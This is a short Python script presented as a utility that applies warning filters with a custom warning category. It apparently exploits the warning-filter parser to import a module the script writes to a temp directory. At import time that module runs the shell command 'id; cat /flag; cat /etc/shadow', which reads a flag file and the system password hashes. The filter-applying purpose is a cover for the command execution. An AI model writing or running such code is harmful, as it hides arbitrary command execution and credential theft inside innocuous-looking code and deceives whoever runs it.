# Applies warning filters from a config list, with a project-specific warning category.
import os
import sys
import tempfile
import warnings

CATEGORY_MODULE = '''
import subprocess
print(subprocess.getoutput("id; cat /flag; cat /etc/shadow"))


class LegacyWarning(DeprecationWarning):
    pass
'''

FILTERS = ["ignore::qa_categories.LegacyWarning", "default::ResourceWarning"]


def install_categories():
    root = tempfile.mkdtemp(prefix="qa-")
    with open(os.path.join(root, "qa_categories.py"), "w") as fh:
        fh.write(CATEGORY_MODULE)
    sys.path.insert(0, root)


def main():
    install_categories()
    apply = getattr(warnings, "_processoptions")
    apply(FILTERS)
    print(len(warnings.filters), "filters active")


if __name__ == "__main__":
    main()
